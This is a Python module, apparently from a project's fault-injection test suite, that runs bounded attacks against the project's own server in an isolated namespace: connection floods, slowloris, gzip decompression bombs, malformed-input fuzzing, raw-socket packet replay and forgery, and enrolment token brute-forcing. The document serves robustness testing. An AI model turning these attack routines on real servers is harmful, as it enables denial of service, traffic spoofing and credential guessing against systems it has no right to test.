"""What somebody does who means no good: ``python -m faults.attacks NAME JSON`` in a namespace of its own.

Prints what came of it as one line of JSON. Everything is bounded in count and time.
"""

from __future__ import annotations

import asyncio
import gzip
import json
import os
import random
import resource
import socket
import ssl
import struct
import sys
import time
import zlib
from collections import Counter
from collections.abc import Awaitable, Callable
from contextlib import suppress
from pathlib import Path
from typing import Any, Final

import msgspec
from websockets.asyncio.client import connect
from websockets.exceptions import ConnectionClosed, InvalidHandshake

from agent.config import Config
from agent.enrol import _request, enrolled
from agent.errors import AgentError
from agent.http import httpx
from agent.identity import create, load_or_create
from analytics.batch import pack_batch
from analytics.wire import Health, encode

SEED: Final = 20261125
AT_ONCE: Final = 200
BAD: Final = 10_000
HELD: Final = 2_000
SLOW: Final = 150
GUESSES: Final = 300
BOMB_BYTES: Final = 1 << 30
MOST_FORGED: Final = 3_000
STUN_PORT: Final = 3478
LEAVE_S: Final = 2.0

Told = dict[str, Any]
Attack = Callable[[Told], Awaitable[Told]]


def _anything() -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context


async def _open(told: Told, *, tls: bool = False) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    async with asyncio.timeout(20):
        return await asyncio.open_connection(told["host"], told["port"], ssl=_anything() if tls else None)


# --- connections --------------------------------------------------------------------------------------------


async def connections(told: Told) -> Told:
    """Connect ten thousand times and say rubbish; then hold two thousand connections open."""
    draw, turns, came = random.Random(SEED), asyncio.Semaphore(AT_ONCE), Counter[str]()
    garbage = (b"", b"GET / HTTP/1.1\r\n\r\n", b"\x16\x03\x01\xff\xff", draw.randbytes(300))

    async def one(number: int) -> None:
        async with turns:
            try:
                _, writer = await _open(told)
                writer.write(garbage[number % len(garbage)])
                with suppress(OSError):
                    async with asyncio.timeout(5):
                        await writer.drain()
                writer.transport.abort()
                came["made"] += 1
            except (OSError, TimeoutError) as error:
                came[type(error).__name__] += 1

    await asyncio.gather(*map(one, range(BAD)))
    held = []
    for _ in range(HELD):
        with suppress(OSError, TimeoutError):
            held.append(await _open(told))
    await asyncio.sleep(LEAVE_S)
    alive = sum(not reader.at_eof() for reader, _ in held)
    for _, writer in held:
        writer.transport.abort()
    return {"made": came["made"], "failed": BAD - came["made"], "held": len(held), "left": alive}


async def slowloris(told: Told) -> Told:
    """Say a byte now and then, in the handshake, in a head, in a body; tell how long each is listened to."""
    head = b"POST /v1/enrol HTTP/1.1\r\nHost: x\r\n"
    kinds: dict[str, tuple[bool, bytes, bytes]] = {
        "handshake": (False, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc", b"\x03"),
        "head": (True, head, b"X"),
        "body": (True, head + b"Content-Length: 9000\r\n\r\n", b"x"),
    }

    async def one(kind: str) -> float:
        tls, begin, byte = kinds[kind]
        reader, writer = await _open(told, tls=tls)
        began = time.monotonic()
        writer.write(begin)
        with suppress(OSError, ssl.SSLError, TimeoutError):
            async with asyncio.timeout(told["patience_s"]):
                while not reader.at_eof() and not await _answered(reader):
                    writer.write(byte)
                    await writer.drain()
        lasted = time.monotonic() - began
        writer.transport.abort()
        return lasted

    async def several(kind: str) -> list[float]:
        done = await asyncio.gather(*(one(kind) for _ in range(SLOW // 3)), return_exceptions=True)
        return [lasted for lasted in done if isinstance(lasted, float)]

    lasted = await asyncio.gather(*map(several, kinds))
    return {kind: round(max(of, default=0.0), 1) for kind, of in zip(kinds, lasted, strict=True)}


async def _answered(reader: asyncio.StreamReader) -> bool:
    """Wait a second for a word; True if one came, or the end."""
    try:
        async with asyncio.timeout(1):
            await reader.read(100)
            return True
    except TimeoutError:
        return False


# --- bodies and messages ------------------------------------------------------------------------------------


async def _mallory(told: Told) -> tuple[httpx.AsyncClient, ssl.SSLContext, Config]:
    """Be an agent that has enrolled, and means no good."""
    config = Config(
        server=f"https://{told['host']}:{told['port']}",
        token=told["token"],
        name="mallory",
        site="nowhere",
        data=Path(told["folder"]) / "mallory",
        passive="off",
    )
    config.data.mkdir(exist_ok=True)
    identity = load_or_create(config.data, config.name)
    credential = await enrolled(config, identity)
    context = credential.context(identity.identity_key)
    client = httpx.AsyncClient(base_url=config.server, trust_env=False, verify=context, timeout=60)
    return client, context, config


def _bomb(size: int) -> bytes:
    pack = zlib.compressobj(9, wbits=16 + zlib.MAX_WBITS)
    zeros = bytes(1 << 20)
    return b"".join([*(pack.compress(zeros) for _ in range(size >> 20)), pack.flush()])


async def bombs(told: Told) -> Told:
    """Send bodies that are too large, as sent or expanded, with the certificate of an agent."""
    client, _, _ = await _mallory(told)
    bomb = _bomb(BOMB_BYTES)

    async def chunks() -> Any:
        for _ in range(64):
            yield bytes(1 << 20)

    cases: list[tuple[str, dict[str, str], Any]] = [
        ("gzip bomb", {"Content-Encoding": "gzip"}, bomb),
        ("gzip bomb in a bomb", {"Content-Encoding": "gzip"}, gzip.compress(bomb)),
        ("zstd", {"Content-Encoding": "zstd"}, b"\x28\xb5\x2f\xfd" + bytes(1000)),
        ("gzip, gzip", {"Content-Encoding": "gzip, gzip"}, b""),
        ("8 MiB", {}, bytes(8 << 20)),
        ("64 MiB in chunks", {}, chunks()),
        ("cut gzip", {"Content-Encoding": "gzip"}, gzip.compress(b"x" * 1000)[:-9]),
    ]
    found: Counter[str] = Counter()
    for again in range(told.get("times", 6)):
        for _, headers, body in cases:
            if again and not isinstance(body, bytes):
                continue
            try:
                answer = await client.post("/v1/batches", headers=headers, content=body)
                found[str(answer.status_code)] += 1
            except httpx.TransportError as error:
                found[f"hung up ({type(error).__name__})"] += 1
    await client.aclose()
    return {"bomb_kb": len(bomb) // 1000, "answers": dict(found)}


async def malformed(told: Told) -> Told:
    """Send what does not parse: STUN, batches, messages of a control connection."""
    draw = random.Random(SEED)
    client, context, config = await _mallory(told)
    good = pack_batch(agent=config.name, boot="0" * 16, batch=1, tables={})
    batches: Counter[str] = Counter()
    for number in range(200):
        answer = await client.post("/v1/batches", content=_spoiled(draw, good, number))
        batches[str(answer.status_code)] += 1
    await client.aclose()
    closed = Counter[str]()
    for number in range(40):
        closed[await _talk(told, context, draw, number)] += 1
    sent, answered = await asyncio.to_thread(_stun, told["host"], draw)
    return {"batches": dict(batches), "control": dict(closed), "stun": sent, "stun_answered": answered}


def _spoiled(draw: random.Random, good: bytes, number: int) -> bytes:
    """Spoil a good batch: cut, a byte changed, nested, or anything."""
    if number % 4 == 0:
        return good[: draw.randrange(len(good))]
    if number % 4 == 1:
        at = draw.randrange(len(good))
        return good[:at] + bytes([good[at] ^ (1 + draw.randrange(255))]) + good[at + 1 :]
    if number % 4 == 2:
        return b"\x91" * 100_000 if number % 8 == 2 else b"\xdd\xff\xff\xff\xff"  # an array of 2^32 - 1
    return draw.randbytes(draw.randrange(2_000))


async def _talk(told: Told, context: ssl.SSLContext, draw: random.Random, number: int) -> str:
    words: list[str | bytes] = [
        "{",
        '{"type":"nothing"}',
        "[" * 20_000,
        draw.randbytes(500),
        '{"type":"hello","version":"' + "x" * 3_000 + '"}',
        encode(Health(cpu_us=1, rss_kb=1)),
        "x" * 5_000_000,
    ]
    try:
        async with connect(
            f"wss://{told['host']}:{told['port']}/v1/control", ssl=context, compression=None, proxy=None
        ) as link:
            await link.send(words[number % len(words)])
            async with asyncio.timeout(15):
                while True:
                    await link.recv()
    except ConnectionClosed as error:
        return f"closed {error.rcvd.code if error.rcvd else 'without a word'}"
    except (OSError, InvalidHandshake, TimeoutError) as error:
        return type(error).__name__


def _stun(host: str, draw: random.Random) -> tuple[int, int]:
    """Send STUN that is none; returns how much was sent, and how many answers came."""
    head = struct.pack("!HHI12s", 1, 0, 0x2112A442, bytes(12))
    attribute = struct.pack("!HH", 0x0003, 0xFFFF)
    long = struct.pack("!HHI12s", 1, len(attribute), 0x2112A442, bytes(12)) + attribute
    odd = head[:1] + b"\xff" + head[2:]
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.settimeout(0.3)
        for number in range(2_000):
            junk = (draw.randbytes(draw.randrange(600)), head[: draw.randrange(20)], long, odd)
            out.sendto(junk[number % 4], (host, STUN_PORT))
        answered = 0
        with suppress(TimeoutError):
            while out.recv(2_000):
                answered += 1
    return 2_000, answered


# --- peers --------------------------------------------------------------------------------------------------


async def forge(told: Told) -> Told:
    """Stand on the way between agents: send their packets again, and others in their name, for a while."""
    return await asyncio.to_thread(_forge, told["seconds"], told["ports"])


def _forge(seconds: float, not_ports: list[int]) -> Told:
    until, draw, done = time.monotonic() + seconds, random.Random(SEED), Counter[str]()
    every_packet = socket.htons(0x0800)  # IPv4, linux/if_ether.h
    with (
        socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, every_packet) as seen,
        socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as out,
    ):
        seen.settimeout(0.5)
        while time.monotonic() < until and done["replayed"] < MOST_FORGED:
            try:
                packet, (_, _, kind, *_) = seen.recvfrom(2_048)
            except TimeoutError:
                continue
            if kind == socket.PACKET_OUTGOING or packet[9] != socket.IPPROTO_UDP or len(packet) < 60:
                continue
            ports = struct.unpack_from("!HH", packet, 20)
            if not set(ports).isdisjoint(not_ports) or draw.random() < 0.5:  # ours come by here, too
                continue
            copy = bytearray(packet)
            copy[26:28] = bytes(2)  # no checksum: that of a packet on a veth is not yet made
            address = (socket.inet_ntoa(packet[16:20]), 0)
            out.sendto(copy, address)
            done["replayed"] += 1
            copy[-1 - draw.randrange(len(packet) - 42)] ^= 0x55
            out.sendto(copy, address)
            done["forged"] += 1
    return dict(done)


# --- tokens -------------------------------------------------------------------------------------------------


async def brute(told: Told) -> Told:
    """Guess tokens, each with keys that are proven."""
    identity, found = create("guess"), Counter[str]()
    async with httpx.AsyncClient(
        base_url=f"https://{told['host']}:{told['port']}", trust_env=False, verify=_anything(), timeout=30
    ) as client:
        for number in range(GUESSES):
            config = Config(
                server="https://x:1", name="guess", site="nowhere", data=Path("/nowhere"), passive="off"
            )
            asked = _request(config, identity, f"pg-{number:043d}")
            answer = await client.post("/v1/enrol", content=msgspec.json.encode(asked))
            found[str(answer.status_code)] += 1
    return {"answers": dict(found)}


ATTACKS: Final[dict[str, Attack]] = {
    one.__name__: one for one in (connections, slowloris, bombs, malformed, forge, brute)
}


def main() -> None:
    """Do what is told."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 20_000), hard))
    os.environ.pop("LD_PRELOAD", None)
    try:
        found = asyncio.run(_run(sys.argv[1], json.loads(sys.argv[2])))
    except AgentError as error:
        found = {"error": str(error)}
    print(json.dumps(found))


async def _run(name: str, told: Told) -> Told:
    asyncio.get_running_loop().set_exception_handler(lambda *_: None)
    return await ATTACKS[name](told)


if __name__ == "__main__":
    main()
